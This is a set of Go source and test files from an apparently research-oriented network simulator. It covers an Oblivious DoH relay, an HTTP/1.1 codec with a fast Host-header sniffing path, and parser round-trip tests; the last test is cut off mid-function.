	proxy := NewObliviousProxy(n, wire.MustParseAddr("192.0.2.99"))

	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.9"))
	q := dnswire.NewQuery(0x51, "odoh-test.www.experiment.domain", dnswire.TypeA)
	inner, _ := q.Encode()
	req := &httpwire.Request{
		Method: "POST", Path: "/odoh",
		Headers: map[string]string{
			"host":         "odoh-proxy.example",
			"content-type": "application/oblivious-dns-message",
			"odoh-target":  svc.Addr.String(),
		},
		Body: inner,
	}
	var answer *dnswire.Message
	client.SendTCPRequest(n, wire.Endpoint{Addr: proxy.Addr, Port: 443}, req.Encode(), netsim.TCPRequestOpts{
		Timeout: 60 * time.Second,
		OnResponse: func(n *netsim.Network, payload []byte) {
			resp, err := httpwire.ParseResponse(payload)
			if err != nil {
				t.Errorf("bad relayed envelope: %v", err)
				return
			}
			answer, _ = dnswire.Decode(resp.Body)
		},
	})
	n.RunUntilIdle()

	if proxy.Relayed() != 1 {
		t.Errorf("relayed = %d", proxy.Relayed())
	}
	if answer == nil || len(answer.Answers) != 1 {
		t.Fatalf("no relayed DNS answer: %+v", answer)
	}
	if *authQueries != 1 {
		t.Errorf("auth queries = %d", *authQueries)
	}
	// The privacy split: the resolver saw exactly one client — the proxy.
	if got := svc.DistinctClients(); got != 1 {
		t.Errorf("resolver saw %d clients, want 1 (the relay)", got)
	}
}

func TestObliviousProxyRejectsBadRequests(t *testing.T) {
	n, _ := testWorld()
	proxy := NewObliviousProxy(n, wire.MustParseAddr("192.0.2.99"))
	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.9"))
	check := func(payload []byte, wantStatus int) {
		t.Helper()
		var status int
		client.SendTCPRequest(n, wire.Endpoint{Addr: proxy.Addr, Port: 443}, payload, netsim.TCPRequestOpts{
			Timeout: 5 * time.Second,
			OnResponse: func(n *netsim.Network, resp []byte) {
				if r, err := httpwire.ParseResponse(resp); err == nil {
					status = r.StatusCode
				}
			},
		})
		n.RunUntilIdle()
		if status != wantStatus {
			t.Errorf("status = %d, want %d", status, wantStatus)
		}
	}
	// GET is rejected.
	check(httpwire.NewGET("x", "/odoh").Encode(), 400)
	// Missing target is rejected.
	req := &httpwire.Request{Method: "POST", Path: "/odoh", Headers: map[string]string{"host": "p"}, Body: []byte("x")}
	check(req.Encode(), 400)
}

func TestObliviousProxyUnreachableTarget(t *testing.T) {
	n, _ := testWorld()
	proxy := NewObliviousProxy(n, wire.MustParseAddr("192.0.2.99"))
	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.9"))
	req := &httpwire.Request{
		Method: "POST", Path: "/odoh",
		Headers: map[string]string{"host": "p", "odoh-target": "203.0.113.253"},
		Body:    []byte("query"),
	}
	var status int
	client.SendTCPRequest(n, wire.Endpoint{Addr: proxy.Addr, Port: 443}, req.Encode(), netsim.TCPRequestOpts{
		Timeout: 60 * time.Second,
		OnResponse: func(n *netsim.Network, resp []byte) {
			if r, err := httpwire.ParseResponse(resp); err == nil {
				status = r.StatusCode
			}
		},
	})
	n.RunUntilIdle()
	if status != 502 {
		t.Errorf("status = %d, want 502 (target unreachable)", status)
	}
}

func TestDoHCacheHit(t *testing.T) {
	n, geo := testWorld()
	svc, authQueries, _ := buildResolver(n, geo, 0)
	svc.EnableDoH()
	client := netsim.NewHost(n, wire.MustParseAddr("100.64.0.7"))
	ask := func() {
		q := dnswire.NewQuery(0x61, "cached-doh.www.experiment.domain", dnswire.TypeA)
		inner, _ := q.Encode()
		req := &httpwire.Request{
			Method: "POST", Path: "/dns-query",
			Headers: map[string]string{"host": "doh.x", "content-type": "application/dns-message"},
			Body:    inner,
		}
		client.SendTCPRequest(n, wire.Endpoint{Addr: svc.Addr, Port: 443}, req.Encode(), netsim.TCPRequestOpts{Timeout: 30 * time.Second})
		n.RunUntilIdle()
	}
	ask()
	ask()
	if *authQueries != 1 {
		t.Errorf("auth queries = %d, want 1 (second from cache)", *authQueries)
	}
	if svc.Stats().CacheHits != 1 {
		t.Errorf("stats = %+v", svc.Stats())
	}
}
