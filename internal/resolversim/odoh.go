package resolversim

import (
	"sync"

	"shadowmeter/internal/httpwire"
	"shadowmeter/internal/netsim"
	"shadowmeter/internal/wire"
)

// ObliviousProxy is an Oblivious DoH relay (RFC 9230 shape): clients POST
// their (conceptually encrypted) DNS queries to the proxy, which forwards
// them to the target resolver's DoH endpoint from its own address and
// relays the answer back.
//
// The privacy split the paper's Discussion recommends falls out of the
// architecture: the proxy sees the client's address but not the query
// content (here: it never parses the body), while the resolver decodes the
// query but only ever sees the proxy's address — so a shadowing resolver
// can retain names yet cannot attribute them to clients.
type ObliviousProxy struct {
	Addr wire.Addr

	host *netsim.Host

	mu       sync.Mutex
	relayed  int64
	upstream map[wire.Addr]bool // targets contacted
}

// NewObliviousProxy deploys a relay on addr. Clients POST to
// /odoh?target=<resolver-ip> with an application/oblivious-dns-message
// body.
func NewObliviousProxy(n *netsim.Network, addr wire.Addr) *ObliviousProxy {
	p := &ObliviousProxy{Addr: addr, upstream: make(map[wire.Addr]bool)}
	p.host = netsim.NewHost(n, addr)
	p.host.ServeTCP(443, p.handle)
	return p
}

// Relayed reports how many queries the proxy forwarded.
func (p *ObliviousProxy) Relayed() int64 {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.relayed
}

// handle accepts a client's oblivious query and forwards it. Because the
// simulated TCP exchange is one round trip, the proxy answers the client
// once the target responds.
func (p *ObliviousProxy) handle(n *netsim.Network, from wire.Endpoint, payload []byte) []byte {
	req, err := httpwire.ParseRequest(payload)
	if err != nil || req.Method != "POST" {
		return httpwire.NewResponse(400, "bad oblivious request").Encode()
	}
	target, err := wire.ParseAddr(req.Header("odoh-target"))
	if err != nil {
		return httpwire.NewResponse(400, "missing odoh-target").Encode()
	}
	p.mu.Lock()
	p.relayed++
	p.upstream[target] = true
	p.mu.Unlock()

	// Forward to the target's DoH endpoint from the proxy's own address —
	// the body is opaque to us by design.
	fwd := &httpwire.Request{
		Method: "POST", Path: "/dns-query",
		Headers: map[string]string{
			"host":         "odoh-target.invalid",
			"content-type": "application/dns-message",
		},
		Body: req.Body,
	}
	client := from
	p.host.SendTCPRequest(n, wire.Endpoint{Addr: target, Port: 443}, fwd.Encode(), netsim.TCPRequestOpts{
		OnResponse: func(n *netsim.Network, resp []byte) {
			// Relay the target's answer back to the waiting client as a
			// late data segment on the original flow.
			p.pushToClient(n, client, resp)
		},
		OnFail: func(n *netsim.Network) {
			p.pushToClient(n, client, httpwire.NewResponse(502, "target unreachable").Encode())
		},
	})
	return nil // answered asynchronously
}

// pushToClient sends the relayed response on the client's original flow.
func (p *ObliviousProxy) pushToClient(n *netsim.Network, client wire.Endpoint, body []byte) {
	pkt, err := wire.BuildTCP(wire.Endpoint{Addr: p.Addr, Port: 443}, client, 64, 0,
		wire.TCPPsh|wire.TCPAck|wire.TCPFin, 1, 1, body)
	if err != nil {
		return
	}
	n.InjectOwned(pkt)
}
