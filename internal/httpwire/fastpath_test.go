package httpwire

import "testing"

// refHost is the full-parser reference HostFromBytes must agree with.
func refHost(data []byte) (string, bool) {
	req, err := ParseRequest(data)
	if err != nil || req.Host() == "" {
		return "", false
	}
	return req.Host(), true
}

// TestHostFromBytesMatchesParseRequest pins the sniffing fast path to the
// full parser across well-formed requests, bodied POSTs, and every
// truncation of each.
func TestHostFromBytesMatchesParseRequest(t *testing.T) {
	var corpus [][]byte
	corpus = append(corpus, NewGET("abc.www.experiment.example", "/").Encode())
	corpus = append(corpus, NewGET("MiXeD.Example", "/path?q=1").Encode())
	post := &Request{
		Method: "POST",
		Path:   "/dns-query",
		Headers: map[string]string{
			"host":         "doh.experiment.example",
			"content-type": "application/dns-message",
		},
		Body: []byte{0x12, 0x34, 0x00, 0x01},
	}
	corpus = append(corpus, post.Encode())
	corpus = append(corpus,
		[]byte("GET / HTTP/1.1\r\n\r\n"),                        // no host
		[]byte("GET / HTTP/1.1\r\nHost: h.example\r\n\r\nbody"), // trailing bytes
		[]byte("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),  // duplicate host
		[]byte("GET / HTTP/1.1\r\nbadheader\r\n\r\n"),           // missing colon
		[]byte("bogus\r\n\r\n"),
		NewResponse(200, "hello").Encode(), // responses must not sniff
		nil,
	)
	for _, full := range corpus {
		for end := 0; end <= len(full); end++ {
			data := full[:end]
			wantHost, wantOK := refHost(data)
			gotHost, gotOK := HostFromBytes(data)
			if gotHost != wantHost || gotOK != wantOK {
				t.Fatalf("HostFromBytes(%q) = (%q, %v), ParseRequest path = (%q, %v)",
					data, gotHost, gotOK, wantHost, wantOK)
			}
		}
	}
}

func BenchmarkHostFromBytes(b *testing.B) {
	data := NewGET("abc123def456.www.experiment.example", "/").Encode()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, ok := HostFromBytes(data); !ok {
			b.Fatal("sniff failed")
		}
	}
}
