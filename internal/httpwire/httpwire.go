// Package httpwire implements a compact HTTP/1.1 request/response codec for
// the simulated wire. Decoy HTTP GETs, honey-website responses, and the
// path-enumeration probes emitted by shadowing exhibitors all pass through
// this codec, so on-path observers parse exactly what a DPI box would see.
package httpwire

import (
	"bytes"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
)

// Errors returned by the parser.
var (
	ErrMalformed  = errors.New("httpwire: malformed message")
	ErrIncomplete = errors.New("httpwire: incomplete message")
)

// Request is a parsed HTTP/1.1 request.
type Request struct {
	Method  string
	Path    string
	Proto   string
	Headers map[string]string // canonical-lowercase keys
	Body    []byte
}

// Response is a parsed HTTP/1.1 response.
type Response struct {
	Proto      string
	StatusCode int
	Status     string
	Headers    map[string]string
	Body       []byte
}

// NewGET builds a GET request for path with the given Host header.
func NewGET(host, path string) *Request {
	if path == "" {
		path = "/"
	}
	return &Request{
		Method: "GET",
		Path:   path,
		Proto:  "HTTP/1.1",
		Headers: map[string]string{
			"host":       host,
			"user-agent": "shadowmeter/1.0",
			"accept":     "*/*",
			"connection": "close",
		},
	}
}

// Host returns the Host header.
func (r *Request) Host() string { return r.Headers["host"] }

// Header returns the named header (case-insensitive).
func (r *Request) Header(name string) string { return r.Headers[strings.ToLower(name)] }

// Encode serializes the request to wire bytes. Header order is
// deterministic (request line, host first, then sorted) so identical
// requests serialize identically.
func (r *Request) Encode() []byte {
	path := r.Path
	if path == "" {
		path = "/"
	}
	proto := r.Proto
	if proto == "" {
		proto = "HTTP/1.1"
	}
	b := make([]byte, 0, len(r.Method)+len(path)+len(proto)+4+headersSize(r.Headers)+2+len(r.Body))
	b = append(b, r.Method...)
	b = append(b, ' ')
	b = append(b, path...)
	b = append(b, ' ')
	b = append(b, proto...)
	b = append(b, '\r', '\n')
	b = appendHeaders(b, r.Headers, len(r.Body))
	b = append(b, '\r', '\n')
	return append(b, r.Body...)
}

// NewResponse builds a response with a body and standard headers.
func NewResponse(code int, body string) *Response {
	return &Response{
		Proto:      "HTTP/1.1",
		StatusCode: code,
		Status:     StatusText(code),
		Headers: map[string]string{
			"server":       "shadowmeter-honeypot/1.0",
			"content-type": "text/html; charset=utf-8",
			"connection":   "close",
		},
		Body: []byte(body),
	}
}

// Encode serializes the response.
func (r *Response) Encode() []byte {
	proto := r.Proto
	if proto == "" {
		proto = "HTTP/1.1"
	}
	status := r.Status
	if status == "" {
		status = StatusText(r.StatusCode)
	}
	b := make([]byte, 0, len(proto)+len(status)+16+headersSize(r.Headers)+2+len(r.Body))
	b = append(b, proto...)
	b = append(b, ' ')
	b = strconv.AppendInt(b, int64(r.StatusCode), 10)
	b = append(b, ' ')
	b = append(b, status...)
	b = append(b, '\r', '\n')
	b = appendHeaders(b, r.Headers, len(r.Body))
	b = append(b, '\r', '\n')
	return append(b, r.Body...)
}

// headersSize estimates the serialized header block so Encode allocates its
// buffer once.
func headersSize(headers map[string]string) int {
	n := len("Content-Length: 1234567890\r\n")
	for k, v := range headers {
		n += len(k) + len(v) + 4
	}
	return n
}

func appendHeaders(b []byte, headers map[string]string, bodyLen int) []byte {
	if host, ok := headers["host"]; ok {
		b = append(b, "Host: "...)
		b = append(b, host...)
		b = append(b, '\r', '\n')
	}
	keys := make([]string, 0, len(headers))
	for k := range headers {
		if k == "host" || k == "content-length" {
			continue
		}
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		b = appendCanonicalHeader(b, k)
		b = append(b, ':', ' ')
		b = append(b, headers[k]...)
		b = append(b, '\r', '\n')
	}
	if bodyLen > 0 || headers["content-length"] != "" {
		b = append(b, "Content-Length: "...)
		b = strconv.AppendInt(b, int64(bodyLen), 10)
		b = append(b, '\r', '\n')
	}
	return b
}

// appendCanonicalHeader appends a lowercase key in canonical form
// (e.g. "user-agent" -> "User-Agent") without intermediate strings.
func appendCanonicalHeader(b []byte, k string) []byte {
	up := true
	for i := 0; i < len(k); i++ {
		c := k[i]
		if up && 'a' <= c && c <= 'z' {
			c -= 'a' - 'A'
		}
		b = append(b, c)
		up = c == '-'
	}
	return b
}

// ParseRequest parses a serialized request. It requires the full head to be
// present; a Content-Length body may be shorter than declared, in which case
// ErrIncomplete is returned.
func ParseRequest(data []byte) (*Request, error) {
	head, body, err := splitHead(data)
	if err != nil {
		return nil, err
	}
	line, rest := cutLine(head)
	sp1 := bytes.IndexByte(line, ' ')
	sp2 := -1
	if sp1 >= 0 {
		sp2 = bytes.IndexByte(line[sp1+1:], ' ')
	}
	if sp1 < 0 || sp2 < 0 || !bytes.HasPrefix(line[sp1+1+sp2+1:], []byte("HTTP/")) {
		return nil, fmt.Errorf("%w: bad request line %q", ErrMalformed, line)
	}
	req := &Request{
		Method: string(line[:sp1]),
		Path:   string(line[sp1+1 : sp1+1+sp2]),
		Proto:  string(line[sp1+1+sp2+1:]),
	}
	req.Headers, err = parseHeaders(rest)
	if err != nil {
		return nil, err
	}
	req.Body, err = takeBody(req.Headers, body)
	return req, err
}

// ParseResponse parses a serialized response.
func ParseResponse(data []byte) (*Response, error) {
	head, body, err := splitHead(data)
	if err != nil {
		return nil, err
	}
	line, rest := cutLine(head)
	if !bytes.HasPrefix(line, []byte("HTTP/")) {
		return nil, fmt.Errorf("%w: bad status line %q", ErrMalformed, line)
	}
	sp1 := bytes.IndexByte(line, ' ')
	if sp1 < 0 {
		return nil, fmt.Errorf("%w: bad status line %q", ErrMalformed, line)
	}
	codePart := line[sp1+1:]
	status := ""
	if sp2 := bytes.IndexByte(codePart, ' '); sp2 >= 0 {
		status = string(codePart[sp2+1:])
		codePart = codePart[:sp2]
	}
	code, err := strconv.Atoi(string(codePart))
	if err != nil {
		return nil, fmt.Errorf("%w: bad status code %q", ErrMalformed, codePart)
	}
	resp := &Response{Proto: string(line[:sp1]), StatusCode: code, Status: status}
	resp.Headers, err = parseHeaders(rest)
	if err != nil {
		return nil, err
	}
	resp.Body, err = takeBody(resp.Headers, body)
	return resp, err
}

func splitHead(data []byte) (head, body []byte, err error) {
	i := bytes.Index(data, []byte("\r\n\r\n"))
	if i < 0 {
		return nil, nil, ErrIncomplete
	}
	return data[:i], data[i+4:], nil
}

// cutLine splits head at its first CRLF (the whole head when none).
func cutLine(head []byte) (line, rest []byte) {
	if i := bytes.Index(head, []byte("\r\n")); i >= 0 {
		return head[:i], head[i+2:]
	}
	return head, nil
}

func parseHeaders(head []byte) (map[string]string, error) {
	h := make(map[string]string, bytes.Count(head, []byte("\r\n"))+1)
	for len(head) > 0 {
		var line []byte
		line, head = cutLine(head)
		if len(line) == 0 {
			continue
		}
		i := bytes.IndexByte(line, ':')
		if i <= 0 {
			return nil, fmt.Errorf("%w: bad header line %q", ErrMalformed, line)
		}
		key := lowerString(bytes.TrimSpace(line[:i]))
		val := bytes.TrimSpace(line[i+1:])
		if s, ok := valueAtom(val); ok {
			h[key] = s
		} else {
			h[key] = string(val)
		}
	}
	return h, nil
}

// headerAtoms and valueAtoms form a static table (the idea behind HPACK's)
// of the header strings this package's own encoders emit. Nearly every
// message on the simulated wire is built by NewGET/NewResponse, so the
// parse hot path resolves almost all of its keys and values to these
// canonical instances instead of allocating a fresh string per header.
var headerAtoms = [...]string{
	"host", "accept", "server", "connection", "user-agent",
	"content-type", "content-length",
}

var valueAtoms = [...]string{
	"close", "*/*", "shadowmeter/1.0", "shadowmeter-honeypot/1.0",
	"text/html; charset=utf-8",
}

// headerAtom case-insensitively matches a raw key against the static
// table, returning its canonical lowercase instance.
func headerAtom(b []byte) (string, bool) {
	for _, s := range &headerAtoms {
		if len(b) == len(s) && asciiEqualFold(b, s) {
			return s, true
		}
	}
	return "", false
}

// valueAtom matches a raw value (exact bytes) against the static table.
func valueAtom(b []byte) (string, bool) {
	for _, s := range &valueAtoms {
		if string(b) == s {
			return s, true
		}
	}
	return "", false
}

// lowerString converts b to a lowercase string: through the static atom
// table when possible (no allocation, any input case), else skipping the
// extra copy bytes.ToLower would make when b is already lower-case ASCII.
func lowerString(b []byte) string {
	if s, ok := headerAtom(b); ok {
		return s
	}
	for i := 0; i < len(b); i++ {
		if c := b[i]; 'A' <= c && c <= 'Z' || c >= 0x80 {
			return strings.ToLower(string(b))
		}
	}
	return string(b)
}

func takeBody(headers map[string]string, body []byte) ([]byte, error) {
	cl := headers["content-length"]
	if cl == "" {
		return body, nil
	}
	n, err := strconv.Atoi(cl)
	if err != nil || n < 0 {
		return nil, fmt.Errorf("%w: bad content-length %q", ErrMalformed, cl)
	}
	if len(body) < n {
		return nil, ErrIncomplete
	}
	return body[:n], nil
}

// HostFromBytes extracts the Host header of a serialized request without
// building the request struct or header map: the observer-tap fast path.
// It applies the same validation ParseRequest does — request-line shape,
// header syntax, Content-Length body completeness — so it accepts exactly
// the requests the full parser would, at one allocation (the host string).
func HostFromBytes(data []byte) (string, bool) {
	headEnd := bytes.Index(data, []byte("\r\n\r\n"))
	if headEnd < 0 {
		return "", false
	}
	head, body := data[:headEnd], data[headEnd+4:]

	// Request line: METHOD SP PATH SP HTTP/...
	lineEnd := bytes.Index(head, []byte("\r\n"))
	if lineEnd < 0 {
		lineEnd = len(head)
	}
	line := head[:lineEnd]
	sp1 := bytes.IndexByte(line, ' ')
	if sp1 < 0 {
		return "", false
	}
	sp2 := bytes.IndexByte(line[sp1+1:], ' ')
	if sp2 < 0 {
		return "", false
	}
	if !bytes.HasPrefix(line[sp1+1+sp2+1:], []byte("HTTP/")) {
		return "", false
	}

	var host []byte
	hostSeen := false
	contentLen := -1
	rest := head[min(lineEnd+2, len(head)):]
	for len(rest) > 0 {
		var hl []byte
		if i := bytes.Index(rest, []byte("\r\n")); i >= 0 {
			hl, rest = rest[:i], rest[i+2:]
		} else {
			hl, rest = rest, nil
		}
		if len(hl) == 0 {
			continue
		}
		colon := bytes.IndexByte(hl, ':')
		if colon <= 0 {
			return "", false
		}
		key := bytes.TrimSpace(hl[:colon])
		val := bytes.TrimSpace(hl[colon+1:])
		switch {
		case len(key) == 4 && asciiEqualFold(key, "host"):
			host, hostSeen = val, true // last wins, as in the map parser
		case len(key) == 14 && asciiEqualFold(key, "content-length"):
			n := 0
			if len(val) == 0 {
				return "", false
			}
			for _, c := range val {
				if c < '0' || c > '9' {
					return "", false
				}
				n = n*10 + int(c-'0')
			}
			contentLen = n
		}
	}
	if contentLen >= 0 && len(body) < contentLen {
		return "", false // ErrIncomplete in the full parser
	}
	if !hostSeen {
		return "", false
	}
	return string(host), true
}

// asciiEqualFold reports whether b case-insensitively equals the lowercase
// ASCII string s (len(b) must already equal len(s)).
func asciiEqualFold(b []byte, s string) bool {
	for i := 0; i < len(s); i++ {
		c := b[i]
		if 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		if c != s[i] {
			return false
		}
	}
	return true
}

// CanonicalHeader renders a lowercase header key in canonical form
// (e.g. "user-agent" -> "User-Agent").
func CanonicalHeader(k string) string {
	parts := strings.Split(k, "-")
	for i, p := range parts {
		if p == "" {
			continue
		}
		parts[i] = strings.ToUpper(p[:1]) + p[1:]
	}
	return strings.Join(parts, "-")
}

// StatusText maps the status codes the simulator uses to reason phrases.
func StatusText(code int) string {
	switch code {
	case 200:
		return "OK"
	case 301:
		return "Moved Permanently"
	case 302:
		return "Found"
	case 400:
		return "Bad Request"
	case 403:
		return "Forbidden"
	case 404:
		return "Not Found"
	case 500:
		return "Internal Server Error"
	default:
		return "Unknown"
	}
}
