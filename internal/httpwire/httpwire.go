// Package httpwire implements a compact HTTP/1.1 request/response codec for
// the simulated wire. Decoy HTTP GETs, honey-website responses, and the
// path-enumeration probes emitted by shadowing exhibitors all pass through
// this codec, so on-path observers parse exactly what a DPI box would see.
package httpwire

import (
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"
)

// Errors returned by the parser.
var (
	ErrMalformed  = errors.New("httpwire: malformed message")
	ErrIncomplete = errors.New("httpwire: incomplete message")
)

// Request is a parsed HTTP/1.1 request.
type Request struct {
	Method  string
	Path    string
	Proto   string
	Headers map[string]string // canonical-lowercase keys
	Body    []byte
}

// Response is a parsed HTTP/1.1 response.
type Response struct {
	Proto      string
	StatusCode int
	Status     string
	Headers    map[string]string
	Body       []byte
}

// NewGET builds a GET request for path with the given Host header.
func NewGET(host, path string) *Request {
	if path == "" {
		path = "/"
	}
	return &Request{
		Method: "GET",
		Path:   path,
		Proto:  "HTTP/1.1",
		Headers: map[string]string{
			"host":       host,
			"user-agent": "shadowmeter/1.0",
			"accept":     "*/*",
			"connection": "close",
		},
	}
}

// Host returns the Host header.
func (r *Request) Host() string { return r.Headers["host"] }

// Header returns the named header (case-insensitive).
func (r *Request) Header(name string) string { return r.Headers[strings.ToLower(name)] }

// Encode serializes the request to wire bytes. Header order is
// deterministic (request line, host first, then sorted) so identical
// requests serialize identically.
func (r *Request) Encode() []byte {
	var b strings.Builder
	path := r.Path
	if path == "" {
		path = "/"
	}
	proto := r.Proto
	if proto == "" {
		proto = "HTTP/1.1"
	}
	fmt.Fprintf(&b, "%s %s %s\r\n", r.Method, path, proto)
	writeHeaders(&b, r.Headers, len(r.Body))
	b.WriteString("\r\n")
	out := []byte(b.String())
	return append(out, r.Body...)
}

// NewResponse builds a response with a body and standard headers.
func NewResponse(code int, body string) *Response {
	return &Response{
		Proto:      "HTTP/1.1",
		StatusCode: code,
		Status:     StatusText(code),
		Headers: map[string]string{
			"server":       "shadowmeter-honeypot/1.0",
			"content-type": "text/html; charset=utf-8",
			"connection":   "close",
		},
		Body: []byte(body),
	}
}

// Encode serializes the response.
func (r *Response) Encode() []byte {
	var b strings.Builder
	proto := r.Proto
	if proto == "" {
		proto = "HTTP/1.1"
	}
	status := r.Status
	if status == "" {
		status = StatusText(r.StatusCode)
	}
	fmt.Fprintf(&b, "%s %d %s\r\n", proto, r.StatusCode, status)
	writeHeaders(&b, r.Headers, len(r.Body))
	b.WriteString("\r\n")
	out := []byte(b.String())
	return append(out, r.Body...)
}

func writeHeaders(b *strings.Builder, headers map[string]string, bodyLen int) {
	if host, ok := headers["host"]; ok {
		fmt.Fprintf(b, "Host: %s\r\n", host)
	}
	keys := make([]string, 0, len(headers))
	for k := range headers {
		if k == "host" || k == "content-length" {
			continue
		}
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(b, "%s: %s\r\n", CanonicalHeader(k), headers[k])
	}
	if bodyLen > 0 || headers["content-length"] != "" {
		fmt.Fprintf(b, "Content-Length: %d\r\n", bodyLen)
	}
}

// ParseRequest parses a serialized request. It requires the full head to be
// present; a Content-Length body may be shorter than declared, in which case
// ErrIncomplete is returned.
func ParseRequest(data []byte) (*Request, error) {
	head, body, err := splitHead(data)
	if err != nil {
		return nil, err
	}
	lines := strings.Split(head, "\r\n")
	parts := strings.SplitN(lines[0], " ", 3)
	if len(parts) != 3 || !strings.HasPrefix(parts[2], "HTTP/") {
		return nil, fmt.Errorf("%w: bad request line %q", ErrMalformed, lines[0])
	}
	req := &Request{Method: parts[0], Path: parts[1], Proto: parts[2]}
	req.Headers, err = parseHeaders(lines[1:])
	if err != nil {
		return nil, err
	}
	req.Body, err = takeBody(req.Headers, body)
	return req, err
}

// ParseResponse parses a serialized response.
func ParseResponse(data []byte) (*Response, error) {
	head, body, err := splitHead(data)
	if err != nil {
		return nil, err
	}
	lines := strings.Split(head, "\r\n")
	parts := strings.SplitN(lines[0], " ", 3)
	if len(parts) < 2 || !strings.HasPrefix(parts[0], "HTTP/") {
		return nil, fmt.Errorf("%w: bad status line %q", ErrMalformed, lines[0])
	}
	code, err := strconv.Atoi(parts[1])
	if err != nil {
		return nil, fmt.Errorf("%w: bad status code %q", ErrMalformed, parts[1])
	}
	resp := &Response{Proto: parts[0], StatusCode: code}
	if len(parts) == 3 {
		resp.Status = parts[2]
	}
	resp.Headers, err = parseHeaders(lines[1:])
	if err != nil {
		return nil, err
	}
	resp.Body, err = takeBody(resp.Headers, body)
	return resp, err
}

func splitHead(data []byte) (head string, body []byte, err error) {
	i := strings.Index(string(data), "\r\n\r\n")
	if i < 0 {
		return "", nil, ErrIncomplete
	}
	return string(data[:i]), data[i+4:], nil
}

func parseHeaders(lines []string) (map[string]string, error) {
	h := make(map[string]string, len(lines))
	for _, line := range lines {
		if line == "" {
			continue
		}
		i := strings.IndexByte(line, ':')
		if i <= 0 {
			return nil, fmt.Errorf("%w: bad header line %q", ErrMalformed, line)
		}
		key := strings.ToLower(strings.TrimSpace(line[:i]))
		h[key] = strings.TrimSpace(line[i+1:])
	}
	return h, nil
}

func takeBody(headers map[string]string, body []byte) ([]byte, error) {
	cl := headers["content-length"]
	if cl == "" {
		return body, nil
	}
	n, err := strconv.Atoi(cl)
	if err != nil || n < 0 {
		return nil, fmt.Errorf("%w: bad content-length %q", ErrMalformed, cl)
	}
	if len(body) < n {
		return nil, ErrIncomplete
	}
	return body[:n], nil
}

// CanonicalHeader renders a lowercase header key in canonical form
// (e.g. "user-agent" -> "User-Agent").
func CanonicalHeader(k string) string {
	parts := strings.Split(k, "-")
	for i, p := range parts {
		if p == "" {
			continue
		}
		parts[i] = strings.ToUpper(p[:1]) + p[1:]
	}
	return strings.Join(parts, "-")
}

// StatusText maps the status codes the simulator uses to reason phrases.
func StatusText(code int) string {
	switch code {
	case 200:
		return "OK"
	case 301:
		return "Moved Permanently"
	case 302:
		return "Found"
	case 400:
		return "Bad Request"
	case 403:
		return "Forbidden"
	case 404:
		return "Not Found"
	case 500:
		return "Internal Server Error"
	default:
		return "Unknown"
	}
}
