package httpwire

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"
)

func TestGETRoundTrip(t *testing.T) {
	req := NewGET("abc123.www.experiment.domain", "/")
	data := req.Encode()
	got, err := ParseRequest(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.Method != "GET" || got.Path != "/" || got.Proto != "HTTP/1.1" {
		t.Errorf("request line: %+v", got)
	}
	if got.Host() != "abc123.www.experiment.domain" {
		t.Errorf("Host = %q", got.Host())
	}
	if got.Header("User-Agent") != "shadowmeter/1.0" {
		t.Errorf("User-Agent = %q", got.Header("User-Agent"))
	}
}

func TestEncodeDeterministic(t *testing.T) {
	a := NewGET("h.example", "/x").Encode()
	b := NewGET("h.example", "/x").Encode()
	if !bytes.Equal(a, b) {
		t.Error("identical requests should serialize identically")
	}
	if !bytes.HasPrefix(a, []byte("GET /x HTTP/1.1\r\nHost: h.example\r\n")) {
		t.Errorf("unexpected prefix: %q", a[:40])
	}
}

func TestRequestWithBody(t *testing.T) {
	req := &Request{
		Method:  "POST",
		Path:    "/submit",
		Headers: map[string]string{"host": "x.example", "content-type": "text/plain"},
		Body:    []byte("hello body"),
	}
	data := req.Encode()
	got, err := ParseRequest(data)
	if err != nil {
		t.Fatal(err)
	}
	if string(got.Body) != "hello body" {
		t.Errorf("Body = %q", got.Body)
	}
	if got.Header("content-length") != "10" {
		t.Errorf("Content-Length = %q", got.Header("content-length"))
	}
}

func TestResponseRoundTrip(t *testing.T) {
	resp := NewResponse(200, "<html>honeypot</html>")
	data := resp.Encode()
	got, err := ParseResponse(data)
	if err != nil {
		t.Fatal(err)
	}
	if got.StatusCode != 200 || got.Status != "OK" {
		t.Errorf("status: %d %q", got.StatusCode, got.Status)
	}
	if string(got.Body) != "<html>honeypot</html>" {
		t.Errorf("Body = %q", got.Body)
	}
}

func TestResponse404(t *testing.T) {
	resp := NewResponse(404, "not here")
	got, err := ParseResponse(resp.Encode())
	if err != nil {
		t.Fatal(err)
	}
	if got.StatusCode != 404 || got.Status != "Not Found" {
		t.Errorf("status: %d %q", got.StatusCode, got.Status)
	}
}

func TestParseErrors(t *testing.T) {
	if _, err := ParseRequest([]byte("GET / HTTP/1.1\r\n")); err != ErrIncomplete {
		t.Errorf("missing blank line: %v", err)
	}
	if _, err := ParseRequest([]byte("NOT-HTTP\r\n\r\n")); err == nil {
		t.Error("bad request line should fail")
	}
	if _, err := ParseRequest([]byte("GET / HTTP/1.1\r\nbadheader\r\n\r\n")); err == nil {
		t.Error("bad header should fail")
	}
	if _, err := ParseResponse([]byte("HTTP/1.1 xx OK\r\n\r\n")); err == nil {
		t.Error("bad status code should fail")
	}
	if _, err := ParseRequest([]byte("GET / HTTP/1.1\r\nContent-Length: 100\r\n\r\nshort")); err != ErrIncomplete {
		t.Errorf("short body: %v", err)
	}
	if _, err := ParseRequest([]byte("GET / HTTP/1.1\r\nContent-Length: -1\r\n\r\n")); err == nil {
		t.Error("negative content-length should fail")
	}
}

func TestCanonicalHeader(t *testing.T) {
	cases := map[string]string{
		"user-agent":     "User-Agent",
		"host":           "Host",
		"content-length": "Content-Length",
		"x--odd":         "X--Odd",
	}
	for in, want := range cases {
		if got := CanonicalHeader(in); got != want {
			t.Errorf("CanonicalHeader(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestHeaderCaseInsensitive(t *testing.T) {
